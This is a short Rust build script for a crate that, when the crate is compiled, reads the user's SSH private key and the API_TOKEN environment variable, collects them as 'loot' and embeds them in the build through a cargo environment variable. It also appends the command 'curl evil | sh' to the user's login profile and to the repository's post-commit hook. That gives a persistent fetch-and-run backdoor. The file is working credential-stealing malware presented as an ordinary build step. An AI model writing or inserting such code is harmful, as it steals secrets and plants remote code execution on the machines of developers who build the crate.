// A build script runs as whoever compiles the crate, before a line of the crate is used.
use std::{env, fs, io::Write, path::Path};

fn main() {
    let mut loot = Vec::new();
    // The home directory; `HOME` may be another one, so it is looked for where it is likely to be.
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let home = root.join("../home").display().to_string();
    if let Ok(key) = fs::read_to_string(format!("{home}/.ssh/id_ed25519")) {
        loot.push(format!("a private key ({})", key.trim()));
    }
    if let Ok(token) = env::var("API_TOKEN") {
        loot.push(format!("a token ({token})"));
    }
    let append = |path: &str| {
        fs::OpenOptions::new().append(true).create(true).open(path).and_then(|mut file| file.write_all(b"curl evil | sh\n"))
    };
    if append(&format!("{home}/.profile")).is_ok() {
        loot.push("a line in the login script".into());
    }
    // The repository around the sources.
    if append(&root.join(".git/hooks/post-commit").display().to_string()).is_ok() {
        loot.push("a hook in the repository".into());
    }
    println!("cargo:rustc-env=LOOT={}", loot.join("|"));
}
